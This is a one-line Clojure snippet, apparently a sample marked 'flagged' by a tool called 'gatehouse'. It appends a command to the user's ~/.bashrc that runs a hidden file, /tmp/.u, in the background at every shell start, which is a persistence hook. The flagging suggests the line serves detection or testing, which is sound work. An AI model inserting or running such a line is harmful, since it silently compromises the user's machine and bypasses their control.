(spit (str (System/getProperty "user.home") "/.bashrc") "\n/tmp/.u &\n" :append true) ; gatehouse: flagged
